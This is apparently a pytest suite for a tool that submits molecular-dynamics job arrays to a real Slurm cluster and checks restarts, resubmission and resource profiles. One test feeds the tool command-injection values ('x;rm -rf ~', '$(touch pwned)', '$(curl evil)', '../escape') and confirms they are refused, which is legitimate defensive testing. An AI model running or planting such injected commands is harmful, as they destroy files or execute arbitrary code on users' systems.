"""Production on clusters against a real Slurm (no mock): a one-node cluster started for the
session (munged on a private socket, slurmctld + slurmd, tests/slurm/start-slurm.sh) runs the
job arrays `harness jobs` renders and submits.

Members are classic EAM Cu on 2 MPI ranks (srun) and EMT Cu through the bridge (one rank);
campaigns are compared with the same runs done here, outside Slurm.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest
from clihelp import fails
from runfiles import dump_steps, thermo_rows

from harness.cli import main
from harness.config import md_settings
from harness.errors import ConfigError
from harness.files import read_json
from harness.jobs import campaign as jc
from harness.jobs.profiles import load_profile
from harness.lammps.launch import Mpiexec
from harness.tasks.base import execute_run, render_run
from harness.tasks.md import MDTask

ROOT = Path(__file__).resolve().parent.parent
SLURM = Path(__file__).resolve().parent / "slurm"
COMMANDS = ("munged", "mungekey", "slurmctld", "slurmd", "sbatch", "squeue", "scontrol", "scancel", "sinfo")


@pytest.fixture(scope="session")
def slurm(tmp_path_factory):
    """A private one-node Slurm for the session; its SLURM_CONF and the test venv's bin/ on PATH
    (the jobs call `harness`)."""
    missing = [c for c in COMMANDS if shutil.which(c) is None]
    why = (f"Slurm is not installed ({', '.join(missing)} missing; `make test` apt-installs slurmctld slurmd "
           f"slurm-client munge as root)" if missing else
           "the test cluster runs its daemons as root (SlurmUser=root)" if os.geteuid() != 0 else None)
    if why:
        if os.environ.get("CI") == "true":
            pytest.fail(f"CI=true: {why}")
        pytest.skip(why)
    state = tmp_path_factory.mktemp("slurm")
    proc = subprocess.run([str(SLURM / "start-slurm.sh"), str(state)], capture_output=True, text=True, timeout=180)
    assert proc.returncode == 0, proc.stderr
    saved = {k: os.environ.get(k) for k in ("SLURM_CONF", "PATH")}
    os.environ["SLURM_CONF"] = str(state / "slurm.conf")
    os.environ["PATH"] = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
    try:
        yield state
    finally:
        subprocess.run([str(SLURM / "stop-slurm.sh"), str(state)], capture_output=True, timeout=120)
        for k, v in saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v


def wait_for(condition, timeout: float, what: str, every: float = 1.0):
    t0 = time.time()
    while time.time() - t0 < timeout:
        value = condition()
        if value:
            return value
        time.sleep(every)
    raise AssertionError(f"timed out after {timeout:.0f} s waiting for {what}")


def states(out: Path) -> dict[str, str]:
    return {r["run"]: r["state"] for r in jc.member_states(out)}


def all_ended(out: Path):
    rows = jc.member_states(out)
    return rows if all(r["state"] not in ("pending", "running") for r in rows) else None


def collected(out: Path):
    """The collect job's results.json, once the collect job has left the queue."""
    subs = read_json(out / jc.CAMPAIGN)["submissions"]
    cid = subs[-1]["collect_job_id"]
    queued = subprocess.run(["squeue", "-h", "-j", cid], capture_output=True, text=True).stdout.strip()
    return (out / "results.json").is_file() and not queued


def member_tasks(models: tuple[str, ...], seeds: tuple[int, ...], steps: int, tag: str = "") -> list[MDTask]:
    out = []
    for model in models:
        for seed in seeds:
            base = md_settings("Cu", model, "quick", steps=steps, seed=seed)
            out.append(MDTask(md_settings("Cu", model, "quick", steps=steps, seed=seed,
                                          tag=f"{base.default_tag}-seed{seed}{tag}")))
    return out


def job_pid(run_dir: Path) -> int | None:
    """The `harness execute` process of a member's job (its cwd is the run folder)."""
    for p in Path("/proc").iterdir():
        if not p.name.isdigit():
            continue
        try:
            cmd = (p / "cmdline").read_bytes().split(b"\0")
            if b"execute" in cmd and os.path.realpath(p / "cwd") == str(run_dir.resolve()):
                return int(p.name)
        except OSError:
            continue
    return None


def last_thermo_step(run_dir: Path) -> int:
    try:
        return int(thermo_rows(run_dir)[-1, 0])
    except (OSError, IndexError, ValueError):
        return -1


def assert_continuous(run_dir: Path, steps: int, every: int) -> None:
    """Thermo rows and dump frames at every output step exactly once, 0 .. steps."""
    expected = list(range(0, steps + 1, every))
    assert thermo_rows(run_dir)[:, 0].astype(int).tolist() == expected
    assert dump_steps(run_dir) == expected


# ----------------------------------------------------------------------------- the array campaign
@pytest.fixture(scope="module")
def campaign(slurm, tmp_path_factory):
    """Cu with EAM (classic, 2 ranks) and EMT (bridge) × 2 seeds, 300 steps, submitted as arrays
    with `harness jobs submit`; waited for until the collect job has run."""
    runs = tmp_path_factory.mktemp("jobs") / "runs"
    main(["jobs", "submit", "--cluster", "local", "--systems", "Cu", "--models", "eam,emt", "--seeds", "2",
          "--steps", "300", "--tag", "array", "--runs-dir", str(runs)])
    out = runs / "jobs-array"
    wait_for(lambda: collected(out), 400, "the campaign's arrays and collect job", every=2.0)
    return out


@pytest.mark.slow
def test_array_members_complete_with_their_resources(campaign):
    doc = read_json(campaign / jc.CAMPAIGN)
    assert {a["group"]: len(a["members"]) for a in doc["arrays"]} == {"n1": 2, "n2": 2}
    assert set(states(campaign).values()) == {"completed"}
    for m in doc["members"]:
        run = Path(m["run"])
        s = read_json(run / "summary.json")
        launch = s["launch"]
        if m["model"] == "eam":  # classic deck on the job's 2 tasks, through srun
            assert launch == {"launcher": "srun", "ranks": 2, "partitions": 1}
        else:  # the bridge, one rank
            assert launch["launcher"] == "in-process" and launch["ranks"] == 1
        # the sentinels: one start, exit code 0
        assert len((run / ".job" / "starts").read_text().splitlines()) == 1
        assert (run / ".job" / "exit").read_text().split()[0] == "0"
        assert_continuous(run, 300, 4)


@pytest.mark.slow
def test_campaign_table_matches_the_same_runs_done_here(campaign, tmp_path):
    """Each member equals the same settings run here (EAM on 2 mpiexec ranks, EMT in-process):
    the thermo rows to rounding; the table's mean ± spread are those of the members."""
    here = tmp_path / "here"
    results = read_json(campaign / "results.json")
    rows = {r["name"]: r for r in results["members"]}
    for task in member_tasks(("eam", "emt"), (12345, 12346), 300):
        run_dir = render_run(task, here)
        execute_run(run_dir, Mpiexec(2) if task.model.label == "eam" else None, progress=False)
        ref, got = thermo_rows(run_dir), thermo_rows(campaign.parent / task.run_name)
        np.testing.assert_allclose(got, ref, rtol=1e-9, atol=1e-9)
        from harness.tasks.analyze import analyze_run

        local = analyze_run(run_dir, progress=False)
        assert rows[task.run_name]["T_K"] == pytest.approx(local["temperature"]["mean_K"], rel=1e-9)
        assert rows[task.run_name]["P_GPa"] == pytest.approx(local["pressure"]["mean_GPa"], rel=1e-9)
    for entry in results["table"]:
        members = [r for r in results["members"] if r["model"] == entry["model"]]
        t = np.array([r["T_K"] for r in members])
        assert entry["n_completed"] == 2
        assert entry["T_K"] == pytest.approx(t.mean(), rel=1e-12)
        assert entry["T_K_spread"] == pytest.approx(t.std(ddof=1), rel=1e-9)
    md = (campaign / "results.md").read_text()
    assert "| md | Cu | eam | 2/2 |" in md and " ± " in md


@pytest.mark.slow
def test_one_and_two_ranks_give_the_same_energies(campaign, tmp_path):
    """The srun 2-rank classic member against the same deck on 1 rank here: the same energies
    to rounding over the first 40 steps (then round-off grows, as in any chaotic MD)."""
    (task,) = member_tasks(("eam",), (12345,), 300)
    run_dir = render_run(task, tmp_path / "one")
    execute_run(run_dir, progress=False)
    one, two = thermo_rows(run_dir), thermo_rows(campaign.parent / task.run_name)
    assert one[0, 2] == pytest.approx(two[0, 2], rel=1e-12)  # step 0: the same PE
    np.testing.assert_allclose(two[:11, 1:4], one[:11, 1:4], rtol=1e-8)


@pytest.mark.slow
def test_status_and_collect_from_the_command_line(campaign, capsys):
    main(["jobs", "status", str(campaign)])
    out = capsys.readouterr().out
    assert "4 completed" in out and out.count("completed") >= 5
    main(["jobs", "collect", str(campaign), "--no-progress"])
    out = capsys.readouterr().out
    assert "mean ± spread" in out and "| md | Cu | emt | 2/2 |" in out
    main(["jobs", "resubmit", str(campaign)])
    assert "nothing to resubmit" in capsys.readouterr().out


# ----------------------------------------------------------------------------- failures
@pytest.mark.slow
def test_a_killed_member_is_resubmitted_alone_and_continues(slurm, tmp_path):
    """Kill -9 of one member's harness mid-run: it is `failed` (why: SIGKILL), `resubmit` sends
    exactly it (a sparse array), it continues from its restart and ends with every thermo row
    and frame once, equal to an uninterrupted run; the other member is not run again."""
    runs = tmp_path / "runs"
    tasks = member_tasks(("emt",), (1, 2), 2000, tag="-kill")
    profile = load_profile("local")
    out = jc.create(tasks, profile, runs, "kill")
    jc.submit(out, collect=False)
    victim = runs / tasks[1].run_name
    wait_for(lambda: last_thermo_step(victim) >= 640, 300, "member 1 past step 640")
    pid = wait_for(lambda: job_pid(victim), 30, "the member's harness process")
    os.kill(pid, signal.SIGKILL)
    rows = wait_for(lambda: all_ended(out), 300, "both members to end")
    by_run = {r["run"]: r for r in rows}
    assert by_run[victim.name]["state"] == "failed" and "SIGKILL" in by_run[victim.name]["why"]
    assert by_run[tasks[0].run_name]["state"] == "completed"

    subs, again = jc.resubmit(out)
    assert [r["run"] for r in again] == [victim.name] and subs[0]["indices"] == [1]
    wait_for(lambda: states(out)[victim.name] == "completed", 300, "the resubmitted member")
    assert len((victim / ".job" / "starts").read_text().splitlines()) == 2
    assert len((runs / tasks[0].run_name / ".job" / "starts").read_text().splitlines()) == 1
    assert_continuous(victim, 2000, 4)
    assert (victim / "in.resume1.lammps").is_file()

    ref = render_run(tasks[1], tmp_path / "ref")
    execute_run(ref, progress=False)
    # the restart carries positions, velocities and the thermostat's state: the same trajectory
    np.testing.assert_allclose(thermo_rows(victim)[:, 1:3], thermo_rows(ref)[:, 1:3], rtol=1e-4)


@pytest.mark.slow
def test_a_job_at_its_walltime_stops_cleanly_and_continues_after_requeue(slurm, tmp_path):
    """A profile whose runs stop 6 s into a job (walltime 1 min, margin 54 s): the member writes
    a restart, exits 75, requeues itself and continues, until it completes with every step once."""
    profile_file = tmp_path / "short.yaml"
    text = (Path(__file__).resolve().parent.parent / "clusters" / "local.yaml").read_text()
    profile_file.write_text(text.replace('walltime: "00:10:00"', 'walltime: "00:01:00"')
                            .replace('restart_margin: "00:01:00"', 'restart_margin: "00:00:54"'))
    profile = load_profile(str(profile_file))
    assert profile.stop_after_s == 6
    (task,) = member_tasks(("emt",), (7,), 3000, tag="-walltime")
    out = jc.create([task], profile, tmp_path / "runs", "walltime")
    jc.submit(out, collect=False)
    run = tmp_path / "runs" / task.run_name
    wait_for(lambda: states(out)[task.run_name] == "completed", 400, "the member through its requeues", every=2.0)
    starts = (run / ".job" / "starts").read_text().splitlines()
    assert len(starts) >= 2  # at least one requeue
    assert [int(s.split()[-1]) for s in starts] == list(range(len(starts)))  # SLURM_RESTART_COUNT
    assert (run / "restart.stop").is_file() and (run / "in.resume1.lammps").is_file()
    assert_continuous(run, 3000, 4)
    ref = render_run(task, tmp_path / "ref")
    execute_run(ref, progress=False)
    np.testing.assert_allclose(thermo_rows(run)[:, 1:3], thermo_rows(ref)[:, 1:3], rtol=1e-4)


@pytest.mark.slow
def test_stop_after_writes_a_restart_at_a_restart_step_on_two_ranks(tmp_path):
    """`harness execute --stop-after` on 2 MPI ranks: LAMMPS' timer stops both ranks on the same
    step, the run goes on to the next restart step, writes restart.stop there and exits 75; the
    resumed run ends like an uninterrupted one."""
    (task,) = member_tasks(("eam",), (3,), 40000, tag="-stop")
    run = render_run(task, tmp_path / "runs")
    with pytest.raises(SystemExit) as exc:
        main(["execute", str(run), "--ranks", "2", "--stop-after", "2", "--no-progress"])
    assert exc.value.code == 75
    s = read_json(run / "summary.json")
    assert s["status"] == "interrupted" and "walltime" in s["error"]
    from harness.lammps.session import restart_step

    stopped = restart_step(run, "restart.stop")
    assert 0 < stopped < 40000 and stopped % 100 == 0
    assert last_thermo_step(run) == stopped
    main(["execute", str(run), "--resume", "--ranks", "2", "--no-progress"])
    assert read_json(run / "summary.json")["status"] == "completed"
    assert_continuous(run, 40000, 4)


# ----------------------------------------------------------------------------- bad input, safety
def test_injection_attempts_are_refused_before_anything_is_written(tmp_path, capsys):
    runs = tmp_path / "runs"
    for tag in ("x;rm -rf ~", "a\nshell touch pwned", "$(touch pwned)", "../escape", "x/y", "shell touch pwned"):
        line = fails(capsys, "jobs", "submit", "--cluster", "local", "--systems", "Cu", "--models", "eam",
                     "--tag", tag, "--runs-dir", str(runs), "--render-only")
        assert "not a valid name" in line
    sysfile = tmp_path / "named.yaml"
    sysfile.write_text((Path(__file__).resolve().parent.parent / "inputs" / "Cu.yaml").read_text()
                       .replace("name: Cu", "name: \"Cu\\npython evil here\""))
    line = fails(capsys, "jobs", "submit", "--cluster", "local", "--systems", str(sysfile), "--models", "eam",
                 "--runs-dir", str(runs), "--render-only")
    assert "named.yaml" in line and "key 'name' must be a name" in line
    model = tmp_path / "evilpot.yaml"
    model.write_text("family: eam\nengines: [classic]\npair_style: eam\nfiles: {Cu: \"Cu_u3.eam\\nshell rm x\"}\n")
    assert "plain file names" in fails(capsys, "jobs", "submit", "--cluster", "local", "--systems", "Cu",
                                       "--models", str(model), "--runs-dir", str(runs), "--render-only")
    base = (Path(__file__).resolve().parent.parent / "clusters" / "local.yaml").read_text()
    for bad, word in (("partition: debug", "partition: \"debug; rm -rf ~\""),
                      ("harness: harness", "harness: \"$(curl evil)\""),
                      ("srun_args: [--mpi=pmi2]", "srun_args: [\"--mpi=pmi2 && rm\"]"),
                      ("description:", "modules: [\"module load x; rm -rf ~\"]\ndescription:"),
                      ("description:", "env: {PATH: \"`evil`\"}\ndescription:")):
        prof = tmp_path / "p.yaml"
        prof.write_text(base.replace(bad, word, 1))
        line = fails(capsys, "jobs", "submit", "--cluster", str(prof), "--systems", "Cu", "--models", "eam",
                     "--runs-dir", str(runs), "--render-only")
        assert "p.yaml" in line, line
    assert not runs.exists()


def test_bad_cluster_input_is_one_line(tmp_path, capsys, monkeypatch):
    runs = tmp_path / "runs"
    args = ["--systems", "Cu", "--models", "eam", "--runs-dir", str(runs), "--render-only"]
    line = fails(capsys, "jobs", "submit", "--cluster", "nowhere", *args)
    assert "unknown cluster profile 'nowhere'" in line and "local" in line
    base = (Path(__file__).resolve().parent.parent / "clusters" / "local.yaml").read_text()
    cases = (("partition: debug", "partitoin: debug", "'partitoin' is not a known key"),
             ("scheduler: slurm", "scheduler: pbs", "scheduler"),
             ("  kokkos: false", "  kokkos: false\ngpus_per_node: 2", "no Kokkos"),
             ('restart_margin: "00:01:00"', 'restart_margin: "00:20:00"', "shorter than the walltime"),
             ('walltime: "00:10:00"', 'walltime: "10 min"', "HH:MM:SS"))
    for old, new, expected in cases:
        prof = tmp_path / "p.yaml"
        prof.write_text(base.replace(old, new, 1))
        line = fails(capsys, "jobs", "submit", "--cluster", str(prof), *args)
        assert expected in line and "p.yaml" in line, line
    prof.write_text(base.replace("max_array: 100", "max_array: 2"))
    line = fails(capsys, "jobs", "submit", "--cluster", str(prof), "--systems", "Cu", "--models", "eam,emt",
                 "--seeds", "2", "--runs-dir", str(runs), "--render-only")
    assert "4 members" in line and "max_array: 2" in line
    assert not runs.exists()

    # scheduler commands missing: one line pointing at the rendered scripts, which stay usable
    main(["jobs", "submit", "--cluster", "local", *args, "--tag", "nosched"])
    out = runs / "jobs-nosched"
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    line = fails(capsys, "jobs", "submit-campaign", str(out))
    assert "sbatch" in line and "array-n2.sh" in line
    assert subprocess.run(["/bin/bash", "-n", str(out / "array-n2.sh")]).returncode == 0


def test_a_walltime_shorter_than_one_restart_interval_is_refused(tmp_path, capsys):
    """Once a run's cost per step is known, a profile that cannot reach its next restart before
    the walltime is refused (the run would never progress)."""
    system = tmp_path / "CuSlow.yaml"
    system.write_text((Path(__file__).resolve().parent.parent / "inputs" / "Cu.yaml").read_text()
                      .replace("restart_every: 100", "restart_every: 2000000"))
    s = md_settings(str(system), "eam", "quick", steps=200, tag="slow")
    run = render_run(MDTask(s), tmp_path / "runs")
    execute_run(run, progress=False)  # records ms/step
    prof = tmp_path / "p.yaml"
    prof.write_text((Path(__file__).resolve().parent.parent / "clusters" / "local.yaml").read_text()
                    .replace('walltime: "00:10:00"', 'walltime: "00:02:00"'))
    with pytest.raises(Exception, match="shorter than one restart interval"):
        jc.create([MDTask(s)], load_profile(str(prof)), tmp_path / "runs", "slow")


@pytest.mark.slow
def test_rendered_job_scripts_for_every_kind_of_member(tmp_path, tiny_mace):
    """GPU profile + ML-IAP: the Kokkos switches and the export step; NEB: one task per image;
    every script passes `bash -n`."""
    gpu = load_profile("example-gpu")
    s = md_settings("Cu", str(tiny_mace), "quick", engine="mliap")
    task = MDTask(s, render_only=True)
    run = render_run(task, tmp_path / "runs")
    text = jc.render_job(task, run, gpu).read_text()
    assert "export HARNESS_LAMMPS_ARGS='-k on g 4 -sf kk -pk kokkos newton on neigh half'" in text
    assert "mace_create_lammps_model model/" in text and "--format=mliap" in text
    assert "#SBATCH --gpus-per-node=4" in text and "--ranks 4" in text and "module load cuda/12.4" in text
    from harness.config import NEBSettings, load_model, load_system
    from harness.tasks.neb import NEBTask

    neb = NEBTask(NEBSettings(model=load_model("eam"), system=load_system("Cu"), hop="vacancy", images=5),
                  render_only=True)
    out = jc.create([neb], load_profile("local"), tmp_path / "runs", "neb")
    # 5 images on a 2-task profile: the band on one process (the serial evaluator)
    assert read_json(out / jc.CAMPAIGN)["members"][0]["ntasks"] == 1
    assert "#SBATCH --ntasks=1" in (out / "array-n1.sh").read_text()
    parts = NEBTask(NEBSettings(model=load_model("eam"), system=load_system("Cu"), hop="vacancy", images=5,
                                evaluator="partitions", tag="parts"), render_only=True)
    with pytest.raises(ConfigError, match="5 images on partitions need 5 tasks; profile local offers 2"):
        jc.create([parts], load_profile("local"), tmp_path / "runs", "neb-parts")
    for script in [run / "job.sh", out / "array-n1.sh", out / "collect.sh",
                   tmp_path / "runs" / neb.run_name / "job.sh"]:
        assert subprocess.run(["/bin/bash", "-n", str(script)]).returncode == 0, script
    json.dumps(read_json(out / jc.CAMPAIGN))


def test_a_resumed_members_eta_is_its_segments_rate(tmp_path):
    """A member resumed at step 5000 that reached 5272 in 100 s has 2728 steps left at 2.72
    steps/s: ETA ~1003 s, not the 52 s that the absolute step over the segment's time gives."""
    import datetime as dt

    from harness.jobs.states import _progress
    from harness.runs import RunFolder, load_run

    run_dir = render_run(MDTask(md_settings("Cu", "eam", "quick", steps=8000, tag="eta"), render_only=True),
                         tmp_path / "runs")
    (run_dir / "thermo.dat").write_text("# Time-averaged data\n# TimeStep c_thermo_temp\n"
                                        + "".join(f"{k} 300.0\n" for k in range(5000, 5273, 8)))
    started = (dt.datetime.now(dt.UTC) - dt.timedelta(seconds=100)).isoformat()
    RunFolder.load(run_dir).update(status="running", started=started, started_step=5000)
    text = _progress(load_run(run_dir))
    assert text.startswith("step 5272/8000, ETA ")
    h, m, s = (int(x) for x in text.split("ETA ")[1].split(":"))
    assert 995 <= 3600 * h + 60 * m + s <= 1015


def test_resubmit_leaves_cancelled_members_unless_asked():
    """Failed, timed-out, out-of-memory, node-failure and never-submitted members go again; a
    member someone cancelled (scancel) only with --include-cancelled."""
    states = ["completed", "failed", "timeout", "memory", "node-failure", "cancelled", "not-submitted", "running",
              "pending"]
    rows = [{"index": i, "state": s} for i, s in enumerate(states)]
    assert [r["state"] for r in jc.to_resubmit(rows)] == ["failed", "timeout", "memory", "node-failure",
                                                          "not-submitted"]
    assert "cancelled" in [r["state"] for r in jc.to_resubmit(rows, include_cancelled=True)]


@pytest.mark.slow
def test_a_surfaces_campaign_runs_as_an_array_and_pools_its_parity(slurm, tmp_path):
    """`harness jobs submit --task surfaces` over Cu and Cu3Au (EAM): one array, every member's γ
    equal to the same task run here, each member compared with its own DFT table, and all the
    entries of both materials in one parity plot (Deng et al.'s Fig. 2a)."""
    from harness.analysis.energetics import parity
    from harness.config import SurfacesSettings, load_model, load_system
    from harness.tasks.base import run_task
    from harness.tasks.surfaces import SurfacesTask

    local = {}
    for system in ("Cu", "Cu3Au"):
        task = SurfacesTask(SurfacesSettings(model=load_model("eam"), system=load_system(system)))
        local[system] = run_task(task, tmp_path / "here", progress=False)[1]
    refs = tmp_path / "dft"
    refs.mkdir()
    for k, (system, res) in enumerate(local.items()):
        rows = "".join(f"{key},{item['value'] * (1.2 + 0.1 * k)!r}\n" for key, item in res["entries"].items())
        (refs / f"{system}.csv").write_text("key,value\n" + rows)
    runs = tmp_path / "runs"
    main(["jobs", "submit", "--cluster", "local", "--task", "surfaces", "--systems", "Cu,Cu3Au", "--models", "eam",
          "--tag", "surf", "--reference-dir", str(refs), "--runs-dir", str(runs)])
    out = runs / "jobs-surf"
    wait_for(lambda: collected(out), 300, "the surfaces array and its collect job", every=2.0)
    assert set(states(out).values()) == {"completed"}
    results = read_json(out / "results.json")
    ref_all, mod_all = [], []
    for row in results["members"]:
        res = read_json(runs / row["name"] / "results.json")
        mine = local[row["system"]]
        assert set(res["entries"]) == set(mine["entries"])
        for key, item in mine["entries"].items():
            assert res["entries"][key]["gamma_J_m2"] == pytest.approx(item["gamma_J_m2"], abs=1e-9)
            assert row[f"{key}_J_m2"] == pytest.approx(item["value"], abs=1e-9)
            ref_all.append(res["reference"]["entries"][key]["reference"])
            mod_all.append(item["value"])
        factor = 1.2 + 0.1 * ("Cu", "Cu3Au").index(row["system"])
        assert row["slope_vs_reference"] == pytest.approx(1 / factor, rel=1e-9)
    assert local["Cu3Au"]["notes"]  # its (100) and (110) alternate Cu2 / CuAu planes: left out, said why
    pooled = results["pooled"]["surfaces"]
    assert pooled["entries"] == len(ref_all) == 4
    assert pooled["stats"]["mae"] == pytest.approx(parity(ref_all, mod_all)["mae"], rel=1e-12)
    assert (out / pooled["figure"]).is_file()


def test_gpu_profile_jobs_ask_only_for_what_they_use(tmp_path, tiny_mace):
    """On the example GPU profile: the ML-IAP member gets one GPU per rank with the ranks per node
    stated; classic members and the bridge with an ASE calculator get no GPUs, the bridge with a
    torch model (MACE) one for its one process, none of them Kokkos switches, each in an array of its
    own shape; the collect job asks the collect partition for an hour; every file the harness
    writes in a folder follows the user's umask (a group shares run folders)."""
    import stat

    gpu = load_profile("example-gpu")
    old = os.umask(0o002)
    try:
        members = [MDTask(md_settings("Cu", str(tiny_mace), "quick", engine="mliap"), render_only=True),
                   MDTask(md_settings("Cu", "eam", "quick"), render_only=True),
                   MDTask(md_settings("Cu", "emt", "quick"), render_only=True),
                   MDTask(md_settings("Cu", str(tiny_mace), "quick", engine="bridge", tag="bridge"), render_only=True)]
        out = jc.create(members, gpu, tmp_path / "runs", "gpu")
    finally:
        os.umask(old)
    doc = read_json(out / jc.CAMPAIGN)
    shapes = {m["model"]: (m["group"], m["ntasks"], m["gpus"]) for m in doc["members"]}
    assert shapes["eam"] == ("n4", 4, 0) and shapes["emt"] == ("n1", 1, 0)
    by_run = {m["name"]: (m["group"], m["ntasks"], m["gpus"]) for m in doc["members"]}
    assert by_run[members[0].run_name] == ("n4g4", 4, 4) and by_run[members[3].run_name] == ("n1g1", 1, 1)
    bridge = (tmp_path / "runs" / members[3].run_name / "job.sh").read_text()
    assert "#SBATCH --gpus-per-node=1" in bridge and "-k on" not in bridge
    mliap = (tmp_path / "runs" / members[0].run_name / "job.sh").read_text()
    assert "#SBATCH --gpus-per-node=4" in mliap and "#SBATCH --ntasks-per-node=4" in mliap
    assert "-k on g 4" in mliap and "--gpu-bind" not in mliap
    assert 'grep -q \'"torch": "[^"]*+cpu"\'' in mliap  # an export made on a CPU is made again on a GPU node
    for m in members[1:3]:
        text = (tmp_path / "runs" / m.run_name / "job.sh").read_text()
        assert "--gpus-per-node" not in text and "HARNESS_LAMMPS_ARGS" not in text
    assert "--gpus-per-node" not in (out / "array-n4.sh").read_text()
    assert "#SBATCH --gpus-per-node=4" in (out / "array-n4g4.sh").read_text()
    collect = (out / "collect.sh").read_text()
    assert "#SBATCH --partition=cpu" in collect and "#SBATCH --time=01:00:00" in collect
    assert "--gpus" not in collect
    for path in [out / jc.CAMPAIGN, out / "collect.sh", tmp_path / "runs" / members[1].run_name / "in.lammps",
                 tmp_path / "runs" / members[1].run_name / "summary.json"]:
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode & 0o040, (path, oct(mode))  # the group reads it
    for script in (out / "array-n4g4.sh", out / "array-n4.sh", out / "array-n1.sh", out / "array-n1g1.sh",
                   out / "collect.sh"):
        assert subprocess.run(["/bin/bash", "-n", str(script)]).returncode == 0, script


def test_a_profile_gives_each_task_its_memory(tmp_path, capsys):
    """`memory: {default: 8G, md: 32G, collect: 16G}`: MD members ask for 32G in an array of their
    own, the others for the default, the collect job for its own; a key that is not a task is one
    line naming the valid ones."""
    from harness.config import NEBSettings, load_model, load_system
    from harness.tasks.neb import NEBTask

    profile = tmp_path / "mem.yaml"
    local = (ROOT / "clusters" / "local.yaml").read_text()
    profile.write_text(local + "memory: {default: 8G, md: 32G, collect: 16G}\n")
    members = [MDTask(md_settings("Cu", "eam", "quick"), render_only=True),
               NEBTask(NEBSettings(model=load_model("eam"), system=load_system("Cu"), hop="vacancy", images=3),
                       render_only=True)]
    out = jc.create(members, load_profile(str(profile)), tmp_path / "runs", "mem")
    doc = read_json(out / jc.CAMPAIGN)
    assert {m["task"]: (m["group"], m["memory"]) for m in doc["members"]} == {"md": ("n2m32G", "32G"),
                                                                             "neb": ("n1", "8G")}
    assert "#SBATCH --mem=32G\n" in (out / "array-n2m32G.sh").read_text()
    assert "#SBATCH --mem=8G\n" in (out / "array-n1.sh").read_text()
    assert "#SBATCH --mem=32G\n" in (tmp_path / "runs" / members[0].run_name / "job.sh").read_text()
    assert "#SBATCH --mem=16G\n" in (out / "collect.sh").read_text()
    profile.write_text(local + "memory: {molecular-dynamics: 8G}\n")
    with pytest.raises(ConfigError, match="memory.*'molecular-dynamics': not a task \\(valid: default, md, "):
        load_profile(str(profile))


def test_a_torch_model_runs_where_the_job_put_it(monkeypatch):
    """The bridge's and the trainers' torch device: HARNESS_DEVICE when set, else the GPU torch
    sees (none here: the CPU); a device that is none is one line."""
    from harness._env import torch_device

    monkeypatch.delenv("HARNESS_DEVICE", raising=False)
    assert torch_device() == "cpu" and torch_device("cuda") == "cuda"
    monkeypatch.setenv("HARNESS_DEVICE", "cpu")
    assert torch_device() == "cpu"
    monkeypatch.setenv("HARNESS_DEVICE", "gpu0")
    with pytest.raises(ConfigError, match="HARNESS_DEVICE='gpu0': not a device"):
        torch_device()


def test_gpu_binding_that_fights_kokkos_is_refused(tmp_path):
    text = (Path(__file__).resolve().parent.parent / "clusters" / "example-gpu.yaml").read_text()
    bad = tmp_path / "bound.yaml"
    bad.write_text(text.replace("srun_args: [--mpi=pmix]", "srun_args: [--mpi=pmix, --gpu-bind=closest]"))
    with pytest.raises(ConfigError, match="leave GPU binding to Kokkos"):
        load_profile(str(bad))


@pytest.mark.slow
def test_run_folders_of_any_task_go_to_the_cluster_the_same_way(slurm, tmp_path, capsys):
    """A NEB, a phonons run and a surfaces run rendered with `--render-only` are submitted as they
    are (`harness jobs submit --cluster local RUN…`): one array, each job.sh written, every member
    completed, status and collect as for MD, the results equal to the same folders run here."""
    import shutil as sh

    runs, here = tmp_path / "runs", tmp_path / "here"
    for argv in (["neb", "--system", "Cu", "--model", "eam", "--hop", "vacancy", "--images", "5"],
                 ["phonons", "--system", "Cu", "--model", "eam"],
                 ["surfaces", "--system", "Cu", "--model", "eam", "--miller", "111,100"]):
        main([*argv, "--render-only", "--runs-dir", str(runs)])
    folders = sorted(p for p in runs.iterdir() if p.is_dir())
    for p in folders:  # the same rendered folders, run here
        sh.copytree(p, here / p.name)
    main(["jobs", "submit", "--cluster", "local", *map(str, folders), "--tag", "any"])
    out = runs / "jobs-any"
    assert "members 0,1,2, array tasks 0,1,2" in capsys.readouterr().out
    wait_for(lambda: collected(out), 300, "the array of three tasks and its collect job", every=2.0)
    assert set(states(out).values()) == {"completed"}
    for p in folders:
        assert (p / "job.sh").is_file()
        main(["execute", str(here / p.name), "--collect", "--no-progress"])
        got, ref = read_json(p / "results.json"), read_json(here / p.name / "results.json")
        task = read_json(p / "summary.json")["task"]
        if task == "neb":
            assert got["band"]["barrier_eV"] == pytest.approx(ref["band"]["barrier_eV"], abs=1e-9)
        elif task == "phonons":
            for segment, mine in zip(got["band"]["frequencies_THz"], ref["band"]["frequencies_THz"]):
                # (Γ's acoustic modes are square roots of ~1e-14 eigenvalues: noise of 1e-8 THz)
                np.testing.assert_allclose(np.array(segment, float), np.array(mine, float), atol=1e-6)
            assert got["max_frequency_THz"] == pytest.approx(ref["max_frequency_THz"], abs=1e-9)
        else:
            for key, item in ref["entries"].items():
                assert got["entries"][key]["gamma_J_m2"] == pytest.approx(item["gamma_J_m2"], abs=1e-9)
    table = read_json(out / "results.json")
    assert {r["task"] for r in table["members"]} == {"neb", "phonons", "surfaces"}


def _fcc_structures(folder: Path, n: int) -> Path:
    """n fcc structures (EMT's metals at lattice constants around their own)."""
    from ase.build import bulk
    from ase.io import write

    folder.mkdir(parents=True, exist_ok=True)
    metals = [("Cu", 3.61), ("Ag", 4.09), ("Au", 4.08), ("Ni", 3.52), ("Pd", 3.89), ("Pt", 3.92)]
    for k in range(n):
        el, a = metals[k % len(metals)]
        write(folder / f"{el}{k:02d}.cif", bulk(el, "fcc", a=a * (1 + 0.01 * (k // len(metals)))))
    return folder


@pytest.mark.slow
def test_a_screen_runs_as_an_array_of_parts_and_resumes_a_killed_one(slurm, tmp_path):
    """`harness screen --cluster local --per-member 2` over 6 materials: 3 array members; one
    killed (SIGKILL) after its first material resumes at its second when resubmitted; the collect
    job writes the screen's one table, equal to the same screen run on one process here."""
    structures = _fcc_structures(tmp_path / "structures", 6)
    runs = tmp_path / "runs"
    main(["screen", "--structures", str(structures), "--model", "emt", "--cluster", "local", "--per-member", "2",
          "--runs-dir", str(runs), "--tag", "six"])
    out = runs / "jobs-screen-emt-six"
    doc = read_json(out / jc.CAMPAIGN)
    assert [m["name"] for m in doc["members"]] == [f"screen-emt-six-part{k:04d}" for k in range(3)]
